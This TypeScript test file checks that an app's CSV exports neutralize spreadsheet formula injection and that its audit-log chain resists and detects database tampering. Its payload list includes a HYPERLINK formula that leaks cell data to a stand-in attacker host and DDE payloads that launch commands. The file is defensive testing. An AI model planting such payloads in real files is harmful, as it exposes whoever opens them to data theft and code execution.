import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { archiveAudit } from "@/server/audit/chain/archive";
import { sealWaiting } from "@/server/audit/chain/seal-rows";
import { verifyChains } from "@/server/audit/chain/verify";
import { authorizeOrganization } from "@/server/access/authorize";
import { completeEnv } from "@/server/env";
import { renameOrganization } from "@/server/organizations/commands/rename-organization";
import { auditRows, tamper } from "@/server/testing/factories/audit";
import { callerOf } from "@/server/testing/caller";
import { sql, useDatabase } from "@/server/testing/database";
import { person, workspaceMember } from "@/server/testing/factory";
import { credential } from "@/server/testing/factories/machines";
import { knockText } from "@/server/testing/doors/knock";
import { requestInfo, systemRequest } from "@/server/testing/requests";
import { tenant, type Tenant } from "@/server/testing/tenant";

useDatabase();

/** The cells of a file as a spreadsheet reads them (RFC 4180): quotes taken off, doubled ones halved. */
function cellsOf(text: string): string[] {
  const cells: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  for (let match = cell.exec(text); match !== null && cell.lastIndex <= text.length; match = cell.exec(text)) {
    cells.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (cell.lastIndex === text.length) break;
  }
  return cells;
}

const RUNS = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

describe("a text that a spreadsheet would run", () => {
  const NAMES = [
    '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\uff1d1+1",
    '=1,"=2',
  ];

  test.each(NAMES)("is a text in every file that it gets into: %s", async (name) => {
    const of = await tenant();
    const evil = await person({ name });
    await workspaceMember(of.workspace, evil);
    await callerOf(evil).projects.create({ workspace: of.workspace.id, name });
    const reader = await credential(of.owner, of.organization);
    for (const path of [
      `/workspaces/${of.workspace.id}/members.csv`,
      `/organizations/${of.organization.id}/members.csv`,
      `/workspaces/${of.workspace.id}/audit.csv`,
      `/organizations/${of.organization.id}/audit.csv`,
      `/workspaces/${of.workspace.id}/invitations.csv`,
    ]) {
      const { status, body } = await knockText("GET", path, { credential: reader });
      expect(status).toBe(200);
      const cells = cellsOf(body);
      if (!path.includes("invitations")) expect(cells).toContain(`'${name}`);
      expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
    }
  });

  test.each(["\t=1+1", "=1+1", "\r\n=1+1"])("is one as a user agent too: %j", async (agent) => {
    const of = await tenant();
    const request = requestInfo({ agent });
    const scope = await authorizeOrganization(of.owner.actor, request, of.organization.id, "organization.rename");
    await renameOrganization(scope, { name: "Renamed" });
    const reader = await credential(of.owner, of.organization);
    const { body } = await knockText("GET", `/organizations/${of.organization.id}/audit.csv`, { credential: reader });
    expect(cellsOf(body)).toContain(`'${agent}`);
    expect(cellsOf(body).filter((cell) => RUNS.test(cell))).toEqual([]);
  });
});

describe("whoever has the database's own rights", () => {
  let of: Tenant;
  beforeEach(async () => {
    of = await tenant();
    await auditRows(of, 6, { daysAgo: 400 });
    await sealWaiting(systemRequest());
  });

  const chain = () => of.organization.id;
  const faults = async () => (await verifyChains(systemRequest())).faults.filter((found) => found.chain === chain());
  const hashAt = async (sequence: number) =>
    (await sql('select "hash" from "audit_seals" where "chain" = $1 and "sequence" = $2', chain(), sequence))[0]?.hash;

  /** What the product writes, but for the signature, which only its keys can make. */
  const forge = async (sequence: number, signature: string) =>
    sql(
      `insert into "audit_checkpoints" ("chain", "sequence", "hash", "rows", "archive", "signature")
       values ($1, $2, $3, $4, 'forged.ndjson.gz', $5)`,
      chain(),
      sequence,
      (await hashAt(sequence)) ?? "",
      sequence,
      signature,
    );

  test("deletes no row that is in no archive", async () => {
    for (const attempt of [
      'delete from "audit_entries"',
      `delete from "audit_entries" where "organizationId" = '${chain()}'`,
      `delete from "audit_seals" where "chain" = '${chain()}'`,
      'truncate "audit_entries", "audit_seals", "audit_checkpoints"',
      `update "audit_seals" set "hash" = '0'`,
      `update "audit_entries" set "actorName" = 'nobody'`,
    ]) {
      await expect(sql(attempt), attempt).rejects.toThrow(/append-only/);
    }
    expect(await faults()).toEqual([]);
  });

  test("cannot make the verifier begin at a checkpoint of their own", async () => {
    await forge(5, "test.AAAA");
    const covered = 'select "entryId" from "audit_seals" where "chain" = $1 and "sequence" <= 5';
    await sql(`delete from "audit_entries" where "id" in (${covered})`, chain());
    await sql('delete from "audit_seals" where "chain" = $1 and "sequence" <= 5', chain());
    expect(await faults()).toEqual([{ chain: chain(), sequence: "5", fault: "checkpoint_forged" }]);
  });

  test("cannot bring a genuine checkpoint to another chain, nor take it away", async () => {
    const directory = await mkdtemp(join(tmpdir(), "tenantry-attack-"));
    completeEnv({ TENANTRY_DATA: directory });
    await sql('update "organizations" set "auditRetentionDays" = 90 where "id" = $1', chain());
    await archiveAudit(systemRequest());
    await rm(directory, { recursive: true });
    await sealWaiting(systemRequest());
    expect(await faults()).toEqual([]);
    const { organization } = await tenant();
    await sealWaiting(systemRequest());
    await tamper('update "audit_checkpoints" set "chain" = $1 where "chain" = $2', organization.id, chain());
    const found = (await verifyChains(systemRequest())).faults;
    expect(found).toContainEqual(expect.objectContaining({ chain: organization.id, fault: "checkpoint_forged" }));
    expect(found).toContainEqual(expect.objectContaining({ chain: chain(), fault: "link_missing" }));
  });

  test("cannot slip a row in that nobody wrote", async () => {
    await sql(
      `insert into "audit_entries" ("id", "organizationId", "actorType", "action", "result", "targetType", "requestId")
       values ('aud_00000000000000000000000000', $1, 'user', 'member.remove', 'done', 'member', 'req_none')`,
      chain(),
    );
    expect(await faults()).toEqual([
      { chain: chain(), sequence: "none", fault: "row_unsealed", entryId: "aud_00000000000000000000000000" },
    ]);
  });
});
